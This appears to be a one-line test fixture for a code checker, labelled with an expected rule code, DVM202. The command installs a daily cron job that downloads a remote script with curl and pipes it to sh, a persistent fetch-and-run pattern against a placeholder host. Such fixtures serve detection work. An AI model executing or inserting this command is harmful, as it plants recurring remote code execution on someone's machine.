# expect: DVM202
echo '@daily curl -s https://example.org/i.sh | sh' | crontab -
